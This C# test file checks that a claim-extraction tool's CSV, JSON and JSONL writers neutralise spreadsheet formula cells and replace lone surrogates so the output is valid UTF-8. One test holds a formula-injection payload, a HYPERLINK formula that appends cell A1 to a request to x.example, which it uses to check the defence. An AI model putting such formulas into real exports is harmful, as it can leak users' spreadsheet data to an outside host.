using System.Text;
using System.Text.Json;
using ClaimExtract.Output;
using ClaimExtract.Sources;
using ClaimExtract.Tests.Output;
using OutputFormat = ClaimExtract.Output.OutputFormat;

namespace ClaimExtract.Tests.Reliability;

/// <summary>What the writers produce from hostile text: CSV that a spreadsheet does not run, JSON that is valid UTF-8.</summary>
public class OutputSafetyTests
{
    private static readonly UTF8Encoding StrictUtf8 = new(false, true);

    private static Article ArticleWith(string text, string statement, string? title = null, string? speaker = null) => new()
    {
        Id = "a",
        Source = "a",
        Title = title,
        Text = text,
        Statements =
        [
            new Statement { Id = "a#1", Kind = "claim", QuoteType = "direct", Text = statement, Start = 0, End = statement.Length, Speaker = speaker, SpeakerKind = "person" },
        ],
    };

    private static byte[] Write(OutputFormat format, Article article)
    {
        using var stream = new MemoryStream();
        using (var writer = ArticleWriters.Create(format, stream))
        {
            writer.Write(article);
            writer.Complete();
        }

        return stream.ToArray();
    }

    [TestCase("=")]
    [TestCase("+")]
    [TestCase("-")]
    [TestCase("@")]
    [TestCase("\t")]
    [TestCase("\r")]
    public void Csv_CellsThatStartAFormula_AreNeutralisedWithAnApostrophe(string prefix)
    {
        var formula = prefix + "HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
        var article = ArticleWith(formula, formula, title: formula, speaker: formula);

        var rows = OutputTests.ReadCsv(Encoding.UTF8.GetString(Write(OutputFormat.Csv, article)));

        var header = rows[0];
        foreach (var column in new[] { "title", "text", "speaker" })
        {
            Assert.That(rows[1][header.IndexOf(column)], Is.EqualTo("'" + formula), column);
        }
    }

    [Test]
    public void Csv_OrdinaryCells_AreLeftAlone()
    {
        var article = ArticleWith("x", "“We will win,” she said", title: "Mayor: 5 = 5 + 0", speaker: "Ana Ruiz");

        var rows = OutputTests.ReadCsv(Encoding.UTF8.GetString(Write(OutputFormat.Csv, article)));

        Assert.That(rows[1][rows[0].IndexOf("title")], Is.EqualTo("Mayor: 5 = 5 + 0"));
        Assert.That(rows[1][rows[0].IndexOf("text")], Is.EqualTo("“We will win,” she said"));
    }

    [Test]
    public void Json_OfTextWithLoneSurrogates_IsValidUtf8WithReplacementCharacters()
    {
        var article = ArticleWith("a\uD800b\uDC00c", "\uDBFF", title: "t\uDFFF");

        foreach (var format in new[] { OutputFormat.Jsonl, OutputFormat.Json, OutputFormat.Csv })
        {
            var bytes = Write(format, article);

            Assert.That(() => StrictUtf8.GetString(bytes), Throws.Nothing, format.ToString());
        }

        using var json = JsonDocument.Parse(Write(OutputFormat.Jsonl, article));
        Assert.That(json.RootElement.GetProperty("text").GetString(), Is.EqualTo("a\uFFFDb\uFFFDc"));
        Assert.That(json.RootElement.GetProperty("title").GetString(), Is.EqualTo("t\uFFFD"));
    }

    [Test]
    [Category("Model")]
    public void Pipeline_TextWithLoneSurrogates_GivesSpansThatAreTheirText()
    {
        var text = "Mayor Ana Ruiz said on Monday that the \uD800 wall would be finished by 2027. “We will \uDC00 build it \uD83C\uDF0A,” Ruiz told the council.";

        var article = new ClaimPipeline().Process(new InputDocument("s", "s", new DocumentContent.PlainText(text)));

        Assert.That(article.Text, Does.Not.Contain('\uD800').And.Not.Contain('\uDC00').And.Contain("\uD83C\uDF0A"));
        Assert.That(article.Text, Has.Length.EqualTo(text.Length), "replacement keeps every offset");
        Assert.That(article.Statements, Is.Not.Empty, "the test needs statements");
        BadInputCorpusTests.AssertWritesValidJsonAndCsv(article);
    }
}
